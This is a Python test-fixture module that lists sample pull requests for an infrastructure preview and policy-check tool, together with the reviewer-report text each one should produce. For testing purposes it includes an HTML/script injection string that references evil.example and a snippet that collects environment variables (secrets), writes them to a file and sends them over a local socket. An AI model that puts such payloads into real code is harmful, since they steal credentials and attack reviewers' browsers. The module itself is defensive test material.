"""Pull requests of all kinds: what each edits, and what a reviewer has to be told of it."""

import json
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import date, timedelta

from groundwork.cost.ceiling import ABOVE_CEILING
from groundwork.preview.report import DESTRUCTIVE, FAILED, FINE, VIOLATIONS
from tests.support.repository import Edit, appended, replaced

EVIL = "x</summary><script>alert(1)</script>![p](https://evil.example/p.png)@octo/admins `c` <img src=x onerror=y>"
ROTATION = {"components/security/encryption_keys.py": replaced("enable_key_rotation=True", "enable_key_rotation=False")}
DEV, DATA = "Pulumi.dev.yaml", "stacks/data.py"
BEFORE_STORES = '    stores = {"access_logs"'
GROUPS = 'f"arn:aws:logs:{args.region}:{args.account_id}:log-group:*"'
WAIVER = {
    "rule": "ENC-07",
    "urn": "*",
    "reason": "rotation is in the way",
    "owner": "someone@example.com",
    "expires": (date.today() + timedelta(days=30)).isoformat(),
}
STEALS = """
import os as _os, sys as _sys, pathlib as _pathlib, socket as _socket
_found = "\\n".join(f"{k}={v}" for k, v in _os.environ.items())
print(dict(_os.environ), file=_sys.stderr)
_pathlib.Path(__file__).with_name("stolen.txt").write_text(_found)
with _socket.create_connection(("127.0.0.1", PORT)) as _outside:
    _outside.sendall(_found.encode())
raise RuntimeError(str(dict(_os.environ)))
"""
THIEF = "prints-its-environment"
"""The pull request whose program prints, writes, sends and throws what it finds."""


def settings(**more: object) -> Edit:
    """An edit of the settings of dev's policies."""

    def edit(text: str) -> str:
        document = json.loads(text)
        document["pack-settings"] |= more
        return json.dumps(document, indent=2) + "\n"

    return edit


def level(rule: str, value: str) -> Edit:
    """An edit of one level of dev's policies."""
    return lambda text: json.dumps({**json.loads(text), rule: value}, indent=2) + "\n"


def stealing_for(port: int) -> Edit:
    """An edit that adds a program which sends what it finds to that port of this machine."""
    return appended(STEALS.replace("PORT", str(port)))


@dataclass(frozen=True)
class PullRequest:
    """A branch and what its report is held to."""

    edits: Mapping[str, Edit]
    code: int
    told: tuple[str, ...]
    """Parts of the comment, in this order."""
    environments: tuple[str, ...] = ("dev",)
    untold: tuple[str, ...] = field(default=())
    """Nowhere in the comment."""


PULL_REQUESTS: Mapping[str, PullRequest] = {
    "nothing": PullRequest(
        {"README.md": appended("\nMore.\n")},
        FINE,
        (
            "nothing stands in the way",
            "dev: no change",
            "access: 0 gained, 0 lost",
            "prod: no change",
            "access: 0 gained",
        ),
        environments=(),
        untold=("WARNING", "<details>"),
    ),
    "a-new-bucket": PullRequest(
        {
            DATA: replaced(
                BEFORE_STORES,
                '    wires = _wires("artifacts", settings, foundation, access_logs)\n'
                "    args = ObjectStoreArgs(settings=settings.stores.artifacts, **wires)\n"
                '    ObjectStore("scratch", args, foundation.opts)\n' + BEFORE_STORES,
            )
        },
        FINE,
        ("dev: 9 created", "prod: ", "create `scratch-bucket` `aws:s3/bucket:Bucket`"),
        environments=(),
    ),
    "a-size": PullRequest(
        {DEV: replaced("instance_class: db.t4g.micro", "instance_class: db.t4g.small")},
        FINE,
        ("dev: 1 changed", "USD (+", "registry-instance: ", '`instanceClass`: `"db.t4g.micro"` → `"db.t4g.small"`'),
    ),
    "encryption-weakened": PullRequest(
        ROTATION, VIOLATIONS, ("policies object", "4 changed", "**ENC-07** `keys-", "enableKeyRotation")
    ),
    "a-role-widened": PullRequest(
        {
            "components/network/flow_logs.py": replaced(
                f'actions=["logs:DescribeLogGroups"],\n            resources=[{GROUPS}]',
                'actions=["*"],\n            resources=["*"]',
            )
        },
        VIOLATIONS,
        (
            "policies object",
            "access: 1 gained",
            "role groundwork-dev-network-flow-logs may now everything on everything",
        ),
    ),
    "a-replaced-database": PullRequest(
        {"components/registry/database.py": replaced("db_name=settings.database_name", 'db_name="other"')},
        DESTRUCTIVE,
        ("nobody confirmed that", "replaces `registry-instance`", "because of `dbName`"),
    ),
    "deleted-keys": PullRequest(
        {
            "components/security/encryption_keys.py": replaced(
                'f"{name}-{key_name.value}",\n            description',
                'f"{name}-{key_name.value}-new",\n            description',
            )
        },
        DESTRUCTIVE,
        ("nobody confirmed that", "deletes `keys-", "which is protected"),
    ),
    "a-syntax-error": PullRequest(
        {"stacks/wiring.py": appended("\ndef (:\n")}, FAILED, ("it failed", "dev: failed", "SyntaxError")
    ),
    "settings-out-of-range": PullRequest(
        {DEV: replaced("backup_retention_days: 7", "backup_retention_days: 99")},
        FAILED,
        ("it failed", "database.backup", "35"),
    ),
    "a-cost-jump": PullRequest(
        {
            DEV: lambda text: text.replace("monthly_usd: 500", "monthly_usd: 260").replace(
                "min_size: 1\n        max_size: 4\n        volume_size_gib: 40",
                "min_size: 3\n        max_size: 4\n        volume_size_gib: 40",
            )
        },
        ABOVE_CEILING,
        ("more than its monthly ceiling", "the ceiling is 260, which was 500", "node-pool-system"),
    ),
    "kubernetes-only": PullRequest(
        {DEV: replaced("gpus: 4, pods: 100", "gpus: 4, pods: 120")},
        FINE,
        ("dev: ", "access: 0 gained, 0 lost", "`kubernetes:core/v1:ResourceQuota`", "100", "120"),
        untold=("aws:",),
    ),
    "a-malicious-name": PullRequest(
        {
            DATA: replaced(
                BEFORE_STORES,
                "    import pulumi\n"
                "    from pulumi_aws import cloudwatch\n"
                f"    evil, opts = {EVIL!r}, pulumi.ResourceOptions(provider=foundation.provider)\n"
                "    cloudwatch.LogGroup(evil, name='/x', tags={'note': evil}, opts=opts)\n" + BEFORE_STORES,
            )
        },
        VIOLATIONS,
        ("policies object", "alert(1)"),
    ),
    "a-waiver-slipped-in": PullRequest(
        ROTATION | {"policies/environments/dev.json": settings(waivers=[WAIVER])},
        FINE,
        (
            "this change waives `ENC-07`",
            "rotation is in the way",
            "policies/environments/dev.json",
            "#### dev",
            "4 waived",
        ),
    ),
    "a-rule-switched-off": PullRequest(
        ROTATION | {"policies/environments/dev.json": level("ENC-07", "disabled")},
        FINE,
        ("this change sets `ENC-07` of the policies** from `the default` to `disabled`", "#### dev"),
    ),
    THIEF: PullRequest(
        {},  # made by the test, which knows where it listens
        FAILED,
        ("it failed", "RuntimeError"),
    ),
}
